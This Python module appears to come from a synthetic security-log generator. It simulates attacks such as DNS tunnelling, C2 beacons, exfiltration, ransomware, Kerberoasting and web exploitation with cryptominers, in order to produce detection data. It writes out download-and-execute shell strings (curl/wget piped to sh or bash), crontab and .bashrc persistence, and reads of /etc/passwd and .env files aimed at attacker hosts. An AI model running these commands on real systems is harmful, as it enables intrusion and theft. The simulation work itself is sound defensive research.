# SPDX-License-Identifier: Apache-2.0
"""Which attacks a world suffers, when, and how loudly; the ones on networks and hosts are
played here.

Every attack has three variants: 0 loud, 1 ordinary, 2 quiet and slow. Times, victims and places
are drawn at random."""
from attacks_cloud import CloudAttacks
from company import SOCIAL

NOTES = ["README_RESTORE.txt", "HOW_TO_RECOVER.html", "!!!read_me!!!.txt"]


class Attacks(CloudAttacks):
    """life: the Life of the world; plan() chooses, and returns what is to be played once the
    ordinary days are written."""

    def __init__(self, life):
        self.life, self.w = life, life.w

    def plan(self, names=None):
        """Half of what can happen to this kind of organisation, or the given names; each on a
        day of its own where possible."""
        w, r = self.w, self.w.rnd
        can = [n for n, (_, kinds) in CATALOGUE.items() if kinds is None or w.kind in kinds]
        chosen = r.sample(can, (len(can) + 1) // 2) if not names else [
                n for n in [*can, *EXTRA] if n in names]
        days = list(range(8, w.days - 2))
        days = r.sample(days * (1 + len(chosen) // len(days)), len(chosen))
        out = []
        for name, day in zip(chosen, days):
            method = {**CATALOGUE, **EXTRA}[name][0]
            variant = r.choice([0, 0, 1, 1, 2, 2])
            out.append(getattr(self, method)(name, day, variant))
        return out

    def victim(self, laptop=None, dept=None, test=None):
        """Somebody no other attack has chosen, who is in on weekdays."""
        w = self.w
        pool = [p for p in w.people if not p.victim and (dept is None or p.dept == dept)
                and (test is None or test(p))]
        p = w.rnd.choice(pool or [p for p in w.people if not p.victim])
        p.victim = True
        return p

    def workday(self, day):
        while self.w.weekday(day) > 4:
            day += 1
        return min(day, self.w.days - 2)

    def bad_place(self, near=False):
        """(name, address) of the attacker's server: in a range of its own, or, less obvious, at
        a large hoster."""
        w = self.w
        net = w.rnd.choice(w.hosting) if near or w.chance(0.4) else w.net(
                w.rnd.choice(["RU", "NL", "MD", "US", "HK"]), "-")
        name = w.vendor_name(["cdn", "api", "sync", "static", "img"], 3)
        w.sites[name] = [w.ip_in(net)]
        return name, w.sites[name][0]

    # -- control network
    def ot_phone(self, name, day, v):
        """An operator station gets to the internet through a telephone: social media first,
        then whatever calls home."""
        w = self.w
        hmi = w.rnd.choice(w.hmis)

        def play():
            s = w.scenario(name, v,
                           ["three long evenings of social media", "short sessions on two days",
                            "one messenger connection every few hours"][v])
            ents = [hmi]
            start = w.at(day, w.rnd.uniform(5, 22))
            visits, t = [40, 14, 9][v], start
            for k in range(visits):
                site = w.rnd.choice(SOCIAL
                                    + ["www.youtube.com"]) if v < 2 else "web.whatsapp.com"
                with w.step(s, "social-media", ents, [site]):
                    w.tls(t, hmi.ip, site, always=k < 3)
                t += [w.log(90, 1, 2, 4000), w.log(2000, 1, 20, 20000), w.log(9000, 0.5)][v]
            t = start + w.log(500, 0.6)
            for _ in range([9, 5, 3][v]):
                site = w.rnd.choice(w.tail)
                with w.step(s, "other-external-hosts", ents, [site]):
                    if w.chance(0.7):
                        w.tls(t, hmi.ip, site, always=True)
                    else:
                        w.conn(t, hmi.ip, w.ip_in(w.mobile),
                               w.rnd.choice([5222, 5228, 443, 8443]), 900, 4000, 60)
                t += w.log(1500, 1)
        return play

    # -- one workstation
    def dns_tunnel(self, name, day, v):
        w = self.w
        p, day = self.victim(), self.workday(day)

        def play():
            s = w.scenario(name, v,
                           ["TXT questions, ten a second for minutes",
                            "TXT and A questions, one a second",
                            "A questions only, every fifteen seconds"][v])
            dom, _ = self.bad_place()
            dom = dom.split(".", 1)[1]
            t = w.at(day, w.rnd.uniform(9.5, 13))
            gap, n = [(0.1, 2400), (1.1, 1800), (15, 900)][v]
            with w.step(s, "dns-tunnel", [p, dom]):
                for k in range(n):
                    label = w.hexa([56, 48, 26][v])
                    host = f"{label[:30]}.{label[30:]}.{k:x}.{dom}" if v < 2 else f"{label}.{dom}"
                    txt = v == 0 or (v == 1 and k % 2)
                    w.lookup(t, p.pc.ip, host,
                             [("TXT 120 " + w.hexa(100))] if txt
                             else [f"10.{k % 250}.{w.rnd.randrange(250)}.7"],
                             "TXT" if txt else "A", ttl=1)
                    t += w.log(gap, 0.3)
        return play

    def beacon(self, name, day, v):
        w = self.w
        p, day = self.victim(), self.workday(day)

        def play():
            every, jitter, hours = [(60, 0.1, 8), (300, 0.3, 30), (2700, 0.5, 60)][v]
            s = w.scenario(name, v, f"every {every} s, jitter {int(jitter * 100)} %, {hours} h")
            site, ip = self.bad_place(v == 2)
            t = w.at(day, w.rnd.uniform(9, 15))
            ents = [p, site, ip]
            with w.step(s, "second-stage", ents):
                w.tls(t, p.pc.ip, site, 1200, w.log(9e5, 0.4), 3, program="implant",
                      always=True)
            end = t + hours * 3600
            t += 30
            while t < end:
                if p.pc.role == "laptop" and not 8 < (t - w.t0) % 86400 / 3600 < 18:
                    t += every
                    continue
                with w.step(s, "c2-beacon", ents):
                    w.tls(t, p.pc.ip, site, w.log(800, 0.15), w.log(600, 0.15), w.log(0.4, 0.2),
                          program="implant")
                t += every * w.rnd.uniform(1 - jitter, 1 + jitter)
            end = w.at(int((end - w.t0) // 86400), 14) if p.pc.role == "laptop" else end
            with w.step(s, "interactive", ents):
                for k in range(25):
                    w.tls(end - 3000 + k * w.log(9, 0.8), p.pc.ip, site, w.log(6000, 0.8),
                          w.log(3000, 0.8), 1, program="implant")
        return play

    def slow_exfil(self, name, day, v):
        w = self.w
        p, day = self.victim(), self.workday(day)

        def play():
            s = w.scenario(name, v,
                           ["3 GB in an afternoon", "40 MB an hour over two days",
                            "8 MB every two hours over four days"][v])
            site, ip = self.bad_place(v > 0)
            t = w.at(day, w.rnd.uniform(9, 11))
            with w.step(s, "collection", [p], [w.fs]):
                for share in w.shares[:[4, 3, 2][v]]:
                    n = [150, 70, 30][v]
                    w.share(t, p.pc.ip, w.fs, share,
                            [
                            (k * [1.5, 6, 40][v], "OPEN",
                             f"{w.rnd.choice(sorted(w.par['departments']))}\\{w.hexa(5)}_{k}.xlsx",
                             w.log(2e5, 1), None) for k in range(n)], sent=30000, got=n * 2.5e5)
                    t += n * [1.5, 6, 40][v] + 60
            if v == 0:
                with w.step(s, "archive", [p], [w.fs]):
                    w.share(t, p.pc.ip, w.fs, w.shares[0],
                            [(1, "WRITE", "tmp\\~a.7z", 2.9e9, None),
                             (400, "OPEN", "tmp\\~a.7z", 2.9e9, None)], sent=2.9e9, got=2.9e9,
                            dur=500)
            t += 900
            for _ in range([3, 16, 40][v]):
                with w.step(s, "upload", [p, site, ip]):
                    w.tls(t, p.pc.ip, site, w.log([1e9, 4e7, 8e6][v], 0.2), 30000,
                          w.log(120, 0.4), program="rclone", always=True)
                t += [w.log(1500, 0.3), 3600 * w.rnd.uniform(0.8, 1.2),
                      7200 * w.rnd.uniform(0.5, 1.5)][v]
        return play

    def upload_only(self, name, day, v):
        """What is taken lies on the machine itself, so that only the upload shows."""
        w = self.w
        p, day = self.victim(), self.workday(day)
        dev, who = [(w.rnd.choice([w.db, w.app]), []), (p.pc, [p]), (p.pc, [p])][v]

        def play():
            s = w.scenario(name, v,
                           ["a server, 4 GB in two hours of the night",
                            "a laptop, 30 MB an hour through two days, with a tool of its own",
                            "a laptop, three parcels of 300 MB in a day, in the browser"][v])
            site, ip = self.bad_place(v > 0)
            t = w.at(day, w.rnd.uniform(1, 3) if v == 0 else w.rnd.uniform(9, 11))
            for _ in range([8, 14, 3][v]):
                with w.step(s, "upload", who + [dev, site, ip]):
                    w.tls(t, dev.ip, site, w.log([5e8, 3e7, 3e8][v], 0.2), 30000,
                          w.log(120, 0.4), program="browser" if v == 2 else "rclone",
                          always=True)
                t += [900, 3600, 7000][v] * w.rnd.uniform(0.8, 1.2)
        return play

    def ransomware(self, name, day, v):
        w = self.w
        p, day = self.victim(test=lambda p: p.pc.os == "Windows"), self.workday(day)

        def play():
            s = w.scenario(name, v,
                           ["900 files in minutes, in the day",
                            "500 files in an hour, at night",
                            "250 files in five hours, written in place"][v])
            n, gap = [(900, 0.5), (500, 7), (250, 70)][v]
            t = w.at(day, w.rnd.uniform(10, 15) if v == 0 else w.rnd.uniform(0.5, 3))
            ext, note = "." + w.word(2), w.rnd.choice(NOTES)
            with w.step(s, "explore-shares", [p], [w.fs]):
                for k, share in enumerate(w.shares):
                    w.share(t - 1800 + k * 100, p.pc.ip, w.fs, share,
                            [(j * 0.5, "OPEN", f"d{j}", 0, None) for j in range(12)])
            with w.step(s, "encryption", [p], [w.fs]):
                for part in range(4):
                    acts = []
                    for k in range(n // 4):
                        f = f"{w.rnd.choice(sorted(w.par['departments']))}\\{w.hexa(4)}_{k}.docx"
                        at = k * gap * w.rnd.uniform(0.95, 1.05) + k * 1e-3
                        acts.append((at, "OPEN", f, 90000, None))
                        acts.append((at + 0.1, "WRITE", f, 90112, None))
                        if v < 2:
                            acts.append((at + 0.2, "RENAME", f + ext, 90112, f))
                    acts.append((n / 4 * gap + 1, "WRITE", note, 1800, None))
                    acts.sort(key=lambda a: a[0])
                    w.share(t, p.pc.ip, w.fs, w.shares[part], acts, sent=n / 4 * 9e4,
                            got=n / 4 * 9e4, dur=n / 4 * gap + 5)
                    t += n / 4 * gap + 20
        return play

    def lateral(self, name, day, v):
        w = self.w
        p, day = self.victim(test=lambda p: p.pc.os == "Windows"), self.workday(day)

        def play():
            s = w.scenario(name, v,
                           ["scan, thirty RC4 tickets in a minute, six hosts",
                            "twelve RC4 tickets in ten minutes, four hosts",
                            "six AES tickets in three hours, two hosts"][v])
            t = w.at(day, w.rnd.uniform(10, 14))
            targets = w.rnd.sample([d for d in w.fleet if d.os == "Windows"],
                                   [4, 3, 2][v]) + [q.pc
                                                    for q in w.rnd.sample(
                    [q for q in w.people if q is not p], [3, 1, 0][v])]
            if v < 2:
                with w.step(s, "scan", [p]):
                    for _ in range([300, 80][v]):
                        net = w.sub[w.rnd.choice(["server", "client", "wifi"])]
                        w.conn(t, p.pc.ip, f"{net}.{w.rnd.randrange(1, 255)}",
                               w.rnd.choice([445, 3389, 135, 5985]),
                               state=w.rnd.choice(["S0", "S0", "REJ"]))
                        t += [w.log(0.3, 0.8), w.log(9, 0.8)][v]
            n, gap = [(30, 1.5), (12, 50), (6, 1700)][v]
            t += 400
            with w.step(s, "kerberoasting", [p], [w.dc]):
                for k in range(n):
                    w.ticket(t, p.pc.ip, p.login,
                             w.rnd.choice(["MSSQLSvc", "HTTP", "SAPService"])
                             + f"/{w.word()}{k:02d}.{w.realm.lower()}:{1433 + k}",
                             cipher="rc4-hmac" if v < 2 else "aes256-cts-hmac-sha1-96")
                    t += w.log(gap, 0.4)
            t += w.log(5000, 0.4)
            admin = "svc-" + w.word()
            for d in targets:
                ents = [p, admin]
                with w.step(s, "remote-desktop", ents, [d]):
                    w.rdp(t, p.pc.ip, d.ip, admin, w.log(500, 0.5))
                if d in w.fleet and v < 2:
                    with w.step(s, "admin-share", ents, [d]):
                        w.share(t + 60, p.pc.ip, d, "ADMIN$",
                                [(1, "WRITE", f"Temp\\{w.word()}.exe", 410000, None),
                                 (2, "OPEN", f"Temp\\{w.word()}.exe", 410000, None)],
                                sent=4.2e5)
                t += [w.log(400, 0.5), w.log(1800, 0.5), w.log(7000, 0.3)][v]
        return play

    # -- web servers
    def node_victim(self):
        w = self.w
        free = [n for n in w.nodes if not getattr(n, "victim", False)] or w.nodes
        n = w.rnd.choice(free)
        n.victim = True
        return n

    def break_in(self, s, node, t, ip, step, cmd):
        """The request that makes the application start a shell; returns the shell's process."""
        w = self.w
        app = self.life.app_process(node)
        with w.step(s, step, [node, ip]):
            w.http(t, ip, w.rnd.choice([w.exit_ip, f"www.{w.domain}"]),
                   w.rnd.choice(["/api/form", "/", "/login", "/upload"]), "POST",
                   w.rnd.choice(["python-requests/2.31.0", "Mozilla/5.0"]), 500, 1400, 200,
                   dst=node.ip)
            return w.exec(node.name, t + 0.4, "/bin/sh", f"-c '{cmd}'", 33, app,
                          f"/srv/{w.short}", dur=30)

    def callback(self, node, t, proc, parent, ip, port=443, name=None, sent=900, got=700,
                 dur=0.5):
        """A process on the node calls out: the host record and the network records."""
        w = self.w
        if port == 443:
            sport = w.tls(t, node.ip, name or ip, sent, got, dur, "implant", ip,
                          sni=bool(name))[2]
        else:
            sport = w.conn(t, node.ip, ip, port, sent, got, dur)[1]
        w.connects(node.name, t, proc, parent, node.ip, ip, port, sport)

    def web_exploit(self, name, day, v):
        """A server is exposed, broken into minutes later; an implant called vim, miners in
        hidden folders, and again."""
        w = self.w
        node = self.node_victim()
        opened = self.life.exposed[node.name] = w.at(day, w.rnd.uniform(0.5, 22))

        def play():
            s = w.scenario(name, v,
                           ["calls home every 30 s, two miners", "every 5 min, one miner",
                            "every 40 min with jitter, a miner over port 443"][v])
            t = opened + w.log(500, 0.5)
            _, ip = self.bad_place()
            ents = [node, ip]
            w.aws(opened, self.life.principal(w.devs[0], t), "ec2",
                  "AuthorizeSecurityGroupIngress", self.exit_at(t), w.devs[0].agent,
                  {"groupId": "sg-0" + w.hexa(16),
                   "ipPermissions": {
                    "items": [
                    {"ipProtocol": "tcp", "fromPort": 443,
                     "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}}]}})
            folder = w.rnd.choice(["/tmp", "/var/tmp", "/dev/shm"])
            sh = self.break_in(s, node, t, ip, "exploit-request",
                               f"curl -s http://{ip}/v -o {folder}/vim; chmod +x {folder}/vim; {folder}/vim")
            with w.step(s, "payload", ents):
                w.exec(node.name, t + 1, "/usr/bin/curl", f"-s http://{ip}/v -o {folder}/vim",
                       33, sh, dur=3)
                w.http(t + 1, node.ip, ip, "/v", agent="curl/7.88.1", got=2.1e6,
                       mime="application/x-executable", dst=ip)
                w.exec(node.name, t + 4, "/bin/chmod", f"+x {folder}/vim", 33, sh, dur=0.1)
                vim = w.exec(node.name, t + 5, f"{folder}/vim", "", 33, sh, folder)
            if v == 0:  # Falco's own word on it; it has no id, so it is not part of the truth
                w.falco(t + 5.1, node.name, "Drop and execute new binary in container",
                        "Critical", "vim", "sh", f"{folder}/vim", f"{folder}/vim", "www-data",
                        tags=["mitre_persistence"])
            every, jitter, n = [(30, 0.05, 600), (300, 0.2, 240), (2400, 0.5, 40)][v]
            u = t + 10
            for _ in range(n):
                with w.step(s, "c2-callback", ents):
                    self.callback(node, u, vim, sh, ip,
                                  w.rnd.choice([443, 443, 8443]) if v == 0 else 443)
                u += every * w.rnd.uniform(1 - jitter, 1 + jitter)
            m = t + w.log(3000, 0.8, 300, 20000)
            for k in range([2, 1, 1][v]):
                hidden = w.rnd.choice(
                        ["/var/tmp/.font-unix", "/home/www/.cache/.sys", "/dev/shm/.x",
                         "/var/lib/.apt"])
                pool = w.ip_in(w.rnd.choice(w.hosting))
                binary = f"{hidden}/{w.rnd.choice(['kworkerd', 'dbusd', 'nginx-worker', 'syslogd'])}"
                with w.step(s, "miner-in-hidden-folder", [node, pool]):
                    w.exec(node.name, m - 5, "/bin/mkdir", f"-p {hidden}", 33, vim, dur=0.1)
                    mine = w.exec(node.name, m, binary,
                                  f"-o {pool}:{443 if v == 2 else 3333} --cpu-max-threads-hint=60",
                                  33, vim, hidden)
                    self.callback(node, m + 1, mine, vim, pool, 443 if v == 2 else 3333,
                                  sent=9e5, got=2e6, dur=w.log(30000, 0.3))
                m += 4000
            if v < 2:
                r = t + w.rnd.uniform(20, 60) * 3600
                _, ip2 = self.bad_place()
                sh2 = self.break_in(s, node, r, ip2, "re-exploitation",
                                    f"wget -q http://{ip2}/x -O- | sh")
                with w.step(s, "re-exploitation", [node, ip2]):
                    w.exec(node.name, r + 1, "/usr/bin/wget", f"-q http://{ip2}/x -O-", 33, sh2,
                           dur=1)
                    w.http(r + 1, node.ip, ip2, "/x", agent="Wget/1.21.3", got=4000,
                           mime="text/x-shellscript", dst=ip2)
        return play

    def rpc_implant(self, name, day, v):
        """An implant that asks nine public RPC endpoints of a block chain where its server is,
        twice a second."""
        w = self.w
        node = self.node_victim()

        def play():
            s = w.scenario(name, v,
                           ["a connection for every poll, two a second",
                            "polls inside connections kept for a minute",
                            "polls inside connections kept for many minutes, nights only"][v])
            t = w.at(day, w.rnd.uniform(1, 22))
            _, ip = self.bad_place()
            ents = [node, ip]
            home = f"/srv/{w.short}/.local/share/{w.hexa(8)}"
            sh = self.break_in(s, node, t, ip, "exploit-request",
                               f"(curl -fsSL http://{ip}/s || wget -qO- http://{ip}/s) | bash")
            with w.step(s, "runtime-download", ents, ["nodejs.org"]):
                w.exec(node.name, t + 1, "/usr/bin/curl", f"-fsSL http://{ip}/s", 33, sh, dur=1)
                w.http(t + 1, node.ip, ip, "/s", agent="curl/7.88.1", got=3200,
                       mime="text/x-shellscript", dst=ip)
                w.tls(t + 3, node.ip, "nodejs.org", 900, 2.8e7, 6, program="curl", always=True)
                w.exec(node.name, t + 12, "/usr/bin/tar",
                       f"xJf /tmp/{w.hexa(6)}.tar.xz -C {home}", 33, sh, dur=3)
                node_p = w.exec(node.name, t + 16, f"{home}/bin/node",
                                f"{home}/.{w.hexa(6)}.js", 33, sh, home)
            with w.step(s, "persistence", ents):
                w.exec(node.name, t + 20, "/usr/bin/crontab", f"{home}/.c", 33, node_p, dur=0.1)
                w.exec(node.name, t + 21, "/bin/sh", f"-c 'echo {home}/bin/node >> ~/.bashrc'",
                       33, node_p, dur=0.1)
            rpc = [w.vendor_name(["rpc", "eth", "mainnet", "node"]) for _ in range(9)]
            rents = [node] + rpc
            u, end = t + 40, t + [1500, 3 * 3600, 12 * 3600][v]
            hold = [0.5, 60, 900][v]
            first = True
            while u < end:
                with w.step(s, "rpc-polling", rents):
                    for k, host in enumerate(rpc):
                        if v == 0 and int((u - t) * 2) % 9 != k:
                            continue
                        polls = max(1, hold / 0.5 / 9)
                        w.tls(u + 0.02 * k, node.ip, host, 700 + 420 * polls, 900 + 650 * polls,
                              hold * 0.98 if v else 0.3, program="node", always=first)
                first = False
                u += hold
            c = t + 300
            for _ in range([8, 5, 3][v]):
                with w.step(s, "c2-command", ents):
                    self.callback(node, c, node_p, sh, ip, sent=w.log(9000, 1), got=4000)
                    w.exec(node.name, c + 0.5,
                           w.rnd.choice(
                            ["/usr/bin/id", "/usr/bin/uname", "/bin/cat", "/usr/bin/find"]),
                           w.rnd.choice(["-a", "/etc/passwd", "/ -name *.env"]), 33, node_p,
                           dur=0.3)
                c += w.log(1800, 1)
        return play


# Played only when they are named, so that a seed of the others stays what it was.
EXTRA = {"upload_only": ("upload_only", None)}
CATALOGUE = {"ot_phone": ("ot_phone", ("plant", "clinic", "shop")),
             "phish_known": ("phish_known", None), "takeover": ("takeover", None),
             "web_exploit": ("web_exploit", None), "rpc_implant": ("rpc_implant", None),
             "aws_chain": ("aws_chain", None), "stolen_role": ("stolen_role", None),
             "dns_tunnel": ("dns_tunnel", None), "ransomware": ("ransomware", None),
             "slow_exfil": ("slow_exfil", None), "lateral": ("lateral", None),
             "beacon": ("beacon", None)}
